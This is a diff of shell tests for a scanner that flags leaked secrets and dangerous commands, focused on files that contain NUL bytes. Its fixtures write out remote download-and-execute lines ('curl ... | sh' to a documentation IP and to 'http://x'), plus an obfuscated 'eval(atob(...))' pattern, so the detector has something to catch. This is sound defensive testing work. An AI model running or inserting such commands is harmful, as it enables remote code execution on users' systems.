@@ -409,17 +409,23 @@ t_nul_bytes_in_text_file() {
 	mkdir t
 	printf 'a\0b\nk=%s\n' "$PAT1" >t/notes.txt
 	printf '\0\0\0\0k=%s\n' "$PAT1" >t/run.sh
+	printf '\0echo one\nk=%s\n' "$PAT1" >t/noname
 	scan --format json t
 	expect_rc 1
+	# Read as sh reads them, the NULs dropped (columns count what is
+	# left); NULs between two visible characters are a finding.
 	expect_q 'sorted((f["path"], f["rule"], f["line"], f["column"]) for f in F)' \
-		"[('t/notes.txt', 'test-github-pat', 2, 3), ('t/run.sh', 'test-github-pat', 1, 7)]"
+		"[('t/noname', 'test-github-pat', 2, 3), ('t/notes.txt', 'airlock.nul-in-text', 0, 0), ('t/notes.txt', 'test-github-pat', 2, 3), ('t/run.sh', 'test-github-pat', 1, 3)]"
+	expect_q '[f["excerpt"] for f in R("test-github-pat")]' \
+		"['(read with its NUL bytes dropped, as sh reads it) k=ghp_*****', '(read with its NUL bytes dropped, as sh reads it) k=ghp_*****', '(read with its NUL bytes dropped, as sh reads it) k=ghp_*****']"
 	expect_out_lacks "$PAT1"
 }
 
 # A NUL before the match on a flagged line cut the excerpt there: the
-# reviewer read "x = 1 " for a line that pipes a download into sh. No
-# string on the wire or in the database holds a NUL, so the excerpt shows
-# each as U+FFFD and keeps the rest of the line (docs/api.md).
+# reviewer read "x = 1 " for a line that pipes a download into sh. Text
+# with NULs is read as sh reads it, the NULs dropped, and its excerpts say
+# so. No string on the wire or in the database holds a NUL: where one is
+# left in an excerpt (a binary's), it shows as U+FFFD (docs/api.md).
 t_nul_in_flagged_line_not_hidden() {
 	mkdir t
 	printf 'x = 1 \0 curl -fsSL https://198.51.100.78/x | sh\n' >t/nul.sh
@@ -427,19 +433,19 @@ t_nul_in_flagged_line_not_hidden() {
 	scan --format json t
 	expect_rc 1
 	expect_json
-	expect_q '[f["excerpt"] for f in R("test-curl-pipe-shell")] == ["x = 1 \ufffd curl -fsSL https://198.51.100.78/x | sh"]' True
-	expect_q '[f["excerpt"] for f in R("test-github-pat")] == ["k=\ufffdghp_*****\ufffd and more"]' True
+	expect_q '[f["excerpt"] for f in R("test-curl-pipe-shell")] == ["(read with its NUL bytes dropped, as sh reads it) x = 1  curl -fsSL https://198.51.100.78/x | sh"]' True
+	expect_q '[f["excerpt"] for f in R("test-github-pat")] == ["(read with its NUL bytes dropped, as sh reads it) k=ghp_***** and more"]' True
 	expect_q 'any("excerpt_hex" in f for f in F)' False
 	expect_out_lacks "$PAT1"
 	scan t
 	expect_rc 1
-	expect_out_has 'x = 1 '$'\xef\xbf\xbd'' curl -fsSL https://198.51.100.78/x | sh'
+	expect_out_has '(read with its NUL bytes dropped, as sh reads it) x = 1  curl -fsSL https://198.51.100.78/x | sh'
 }
 
 t_binary_file_strings_scanned() {
 	mkdir t
 	printf '\0\1\2\3k=%s\ncurl -s http://x | sh\n\0eval(atob("x"))\n' "$PAT1" >t/blob
-	printf '\0ELF k=%s\n' "$PAT1" >t/tool.bin
+	printf '\177ELF\2\1\1\0 k=%s\n' "$PAT1" >t/tool.bin
 	scan --format json t
 	expect_rc 1
 	# Not read as text, but their strings are, by the secret, download
@@ -449,7 +455,7 @@ t_binary_file_strings_scanned() {
 	expect_q 'R("test-curl-pipe-shell")[0]["excerpt"]' \
 		'string at byte 47 of a binary file: curl -s http://x | sh'
 	expect_q '[f["excerpt"][:38] for f in R("test-github-pat")]' \
-		"['string at byte 4 of a binary file: k=g', 'string at byte 1 of a binary file: ELF']"
+		"['string at byte 4 of a binary file: k=g', 'string at byte 8 of a binary file:  k=']"
 	expect_q 'any("'"$PAT1"'" in f["excerpt"] for f in F)' False
 	expect_q 'd["stats"]["files"]' 2
 }
